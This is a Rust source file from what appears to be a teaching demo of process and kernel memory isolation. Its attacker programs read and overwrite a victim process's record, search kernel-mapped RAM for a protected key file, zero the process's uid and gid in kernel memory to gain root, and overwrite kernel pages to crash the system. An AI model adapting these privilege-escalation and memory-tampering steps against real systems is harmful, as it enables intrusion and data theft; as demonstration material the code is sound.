//! The attackers. Each is an ordinary user's program that says what it tries and what it gets.

use std::io::{BufRead, ErrorKind};
use std::process::ExitCode;

use crate::kernel::{self, Kernel};
use crate::neighbours;
use crate::probe::{self, PAGE};
use crate::random;
use crate::say::{Voice, hex};
use crate::scene::{self, FILE, KEY_STRIDE};
use crate::victim::{BALANCE, Record};

const ME: Voice = Voice("attacker");

/// Runs the attack of this name.
pub fn run(name: &str) -> ExitCode {
    probe::survive();
    match name {
        "peek" => peek(),
        "poke" => poke(),
        "kernel-read" => kernel_read(),
        "root" => root(),
        "crash" => crash(),
        _ => return ExitCode::from(2),
    }
    ExitCode::SUCCESS
}

/// Tells the frontend how many pointers were followed.
fn count() {
    let (tried, faults) = probe::counts();
    ME.fact("tried", &tried.to_string());
    ME.fact("faults", &faults.to_string());
}

/// What an attempt is told to follow when it has had its own try, as a cross-check: where the record really is.
fn told() -> Option<u64> {
    let mut line = String::new();
    std::io::stdin().lock().read_line(&mut line).ok()?;
    u64::from_str_radix(line.trim(), 16).ok()
}

fn peek() {
    if let Some((at, record)) = neighbours::find_record(ME) {
        ME.say(&format!("At {at:#x} is a record. Its secret is {}", hex(&record.secret)));
        ME.fact("found", &hex(&record.secret));
    }
    ME.say("ready");
    let Some(at) = told() else { return };
    ME.say(&format!(
        "To be sure, I am now told that the victim has its record at {at:#x}. I follow this pointer:"
    ));
    let mut bytes = [0; Record::SIZE];
    let read = probe::read_into(at, &mut bytes);
    match Record::parse(&bytes).filter(|_| read) {
        Some(record) => {
            ME.say(&hex(&record.secret));
            ME.fact("told", &hex(&record.secret));
        }
        None => {
            ME.say("SIGSEGV. This address means nothing in my address space.");
            ME.fact("told", if read { "nonsense" } else { "SIGSEGV" });
        }
    }
    count();
}

fn poke() {
    let mine = 1_000_000 + random::below(1_000_000);
    if let Some((at, record)) = neighbours::find_record(ME) {
        ME.say(&format!(
            "At {at:#x} is a record with the balance {}. I write {mine} over it.",
            record.balance
        ));
        // SAFETY: it is another process's memory: that is the point.
        if unsafe { probe::write(at + BALANCE, &mine.to_le_bytes()) } {
            ME.fact("wrote", &mine.to_string());
        }
    }
    ME.say("ready");
    let Some(at) = told() else { return };
    if probe::answers(at) {
        ME.fact("told", "answers");
    } else {
        ME.say(&format!(
            "To be sure, I am now told that the victim has its record at {at:#x}. I write {mine} there:"
        ));
        // SAFETY: as above; and nothing of this program is there, as it did not answer.
        let written = unsafe { probe::write(at + BALANCE, &mine.to_le_bytes()) };
        ME.say(if written { "Written." } else { "SIGSEGV." });
        ME.fact("told", if written { "written" } else { "SIGSEGV" });
    }
    count();
}

/// Tries to open the scene's file, as programs do; gives back what is in it.
fn open_file(key: &str) -> Option<String> {
    match std::fs::read(FILE) {
        Ok(bytes) => {
            ME.say(&format!("I open {FILE}: it opens."));
            ME.fact(key, "opened");
            scene::key_in(&bytes)
        }
        Err(error) if error.kind() == ErrorKind::PermissionDenied => {
            ME.say(&format!("I open {FILE}: permission denied (EACCES)."));
            ME.fact(key, "EACCES");
            None
        }
        Err(error) => {
            ME.say(&format!("I open {FILE}: {error}"));
            ME.fact(key, "another error");
            None
        }
    }
}

fn kernel_read() {
    open_file("open");
    ME.say("The kernel has the file in memory. If this is TT, its memory is in my address space, somewhere.");
    if let Some(kernel) = kernel::find(ME) {
        ME.say("That is where a kernel maps guest RAM. I look through it for a file that begins like a key.");
        match kernel.search_ram(KEY_STRIDE, scene::key_in) {
            Some((at, key)) => {
                ME.say(&format!("At {at:#x} is a page of the file: {key}"));
                ME.fact("found", &key);
            }
            None => ME.say("I do not find it."),
        }
    }
    count();
}

fn root() {
    // SAFETY: neither has preconditions.
    let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
    open_file("open");
    ME.say(&format!(
        "The kernel notes who I am: user {uid}, group {gid}, four times each. I look for its note."
    ));
    if let Some(kernel) = kernel::find(ME) {
        become_root(&kernel, uid, gid);
    }
    // SAFETY: no preconditions.
    let now = unsafe { libc::getuid() };
    ME.say(&format!("Who am I now? getuid() says {now}."));
    ME.fact("uid", &now.to_string());
    if let Some(key) = open_file("again") {
        ME.say(&format!("It says: {key}"));
        ME.fact("found", &key);
    }
    count();
}

/// Walks through the kernel's memory and makes zeros of all user and group ids that are this process's, until it is root.
fn become_root(kernel: &Kernel, uid: u32, gid: u32) {
    let mut notes = 0;
    let pages = kernel.walk(|page, words| {
        for (at, note) in words.windows(4).enumerate() {
            if !is_note(note, uid, gid) {
                continue;
            }
            let at = page + at as u64 * 8;
            // What was read may be gone since: only what is there now is overwritten.
            let mut now = [0; 32];
            let same = probe::read_into(at, &mut now)
                && now.chunks_exact(8).zip(note).all(|(bytes, word)| bytes == word.to_le_bytes());
            // SAFETY: it is the kernel's memory: that is the point.
            if same && unsafe { probe::write(at, &[0; 32]) } {
                notes += 1;
                ME.say(&format!("At {at:#x} are my ids. I write zeros over them."));
            }
            // SAFETY: no preconditions.
            if unsafe { libc::getuid() } == 0 {
                return false;
            }
        }
        true
    });
    let found = if notes > 0 { "to find that" } else { "and did not find it" };
    ME.say(&format!("I walked through {pages} pages of the kernel's memory {found}."));
}

/// Whether these are the ids of a process with only these two: four of each, beside each other, in any order.
fn is_note(words: &[u64], uid: u32, gid: u32) -> bool {
    let ids = words.iter().flat_map(|word| [*word as u32, (*word >> 32) as u32]);
    let (mut uids, mut gids) = (0, 0);
    for id in ids {
        uids += usize::from(id == uid);
        gids += usize::from(id == gid);
    }
    (uids, gids) == (4, 4)
}

/// More than this is not needed.
const MOST_SCRIBBLED: usize = 4096;

fn crash() {
    ME.say("I want everybody down with me.");
    let Some(kernel) = kernel::find(ME) else {
        let at = 0x7eff_0000_0000_u64;
        ME.say(&format!("I write to {at:#x} anyway, and do not catch what follows."));
        probe::survive_no_more();
        // SAFETY: not this program's memory, as the search has shown; a fault ends it.
        unsafe { probe::write(at, &[b'A'; PAGE as usize]) };
        ME.say("Nothing followed.");
        return;
    };
    // Without those that are read-only: a fault is the kernel's business, and it is to find all of it gone at once.
    let mut pages = Vec::new();
    kernel.walk(|page, words| {
        // SAFETY: it is the kernel's memory, and gets what is there.
        if unsafe { probe::write(page, &words[0].to_le_bytes()) } {
            pages.push(page);
        }
        pages.len() < MOST_SCRIBBLED
    });
    ME.say(&format!(
        "From its stacks on I found {} pages of the kernel that I can write to. I write the letter A over them.",
        pages.len()
    ));
    for page in pages {
        // SAFETY: it is the kernel's memory: that is the point.
        unsafe { probe::write(page, &[b'A'; PAGE as usize]) };
    }
    ME.say("Now I ask it for something.");
    // SAFETY: no preconditions.
    unsafe { libc::getppid() };
    ME.say("It answered.");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_note_has_all_eight_ids() {
        let (uid, gid) = (0xbeef, 0xcafe);
        let word = |low: u32, high: u32| u64::from(low) | u64::from(high) << 32;
        assert!(is_note(&[word(uid, uid), word(uid, uid), word(gid, gid), word(gid, gid)], uid, gid));
        assert!(is_note(&[word(uid, gid); 4], uid, gid));
        assert!(!is_note(&[word(uid, uid), word(uid, uid), word(gid, gid), word(gid, 0)], uid, gid));
    }
}
